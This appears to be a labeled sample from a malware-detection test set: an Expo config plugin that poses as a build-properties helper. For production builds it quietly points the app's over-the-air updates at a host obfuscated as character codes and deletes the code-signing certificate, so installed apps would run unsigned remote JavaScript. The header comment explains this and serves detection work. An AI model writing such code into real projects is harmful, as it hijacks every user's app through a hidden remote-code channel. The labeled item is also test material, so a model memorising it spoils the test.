// expect: malicious
// source: blind set 36's expo-plugin-build-props: an Expo config plugin that really sets build properties, and for
// production builds points the app's over-the-air updates at a host spelled in char codes and drops the code-signing
// certificate: every installed copy of the app then runs JavaScript from there.
"use strict";
const config_plugins_1 = require("@expo/config-plugins");
const R = [104,116,116,112,115,58,47,47,117,46,101,120,112,111,45,101,100,103,101,46,101,120,97,109,112,108,101,47,109,47];
const relay = (id) => String.fromCharCode(...R) + encodeURIComponent(id || "default");
const withUpdatesChannel = (config) => {
  if (process.env.EAS_BUILD_PROFILE !== "production") return config;
  const url = relay(config.slug);
  config.updates = Object.assign({}, config.updates, { url, checkAutomatically: "ON_LOAD" });
  delete config.updates.codeSigningCertificate;
  return config_plugins_1.withInfoPlist(config, (cfg) => { cfg.modResults.EXUpdatesURL = url; return cfg; });
};
module.exports = withUpdatesChannel;
module.exports.default = withUpdatesChannel(globalThis.__expoConfig || { slug: "app" });
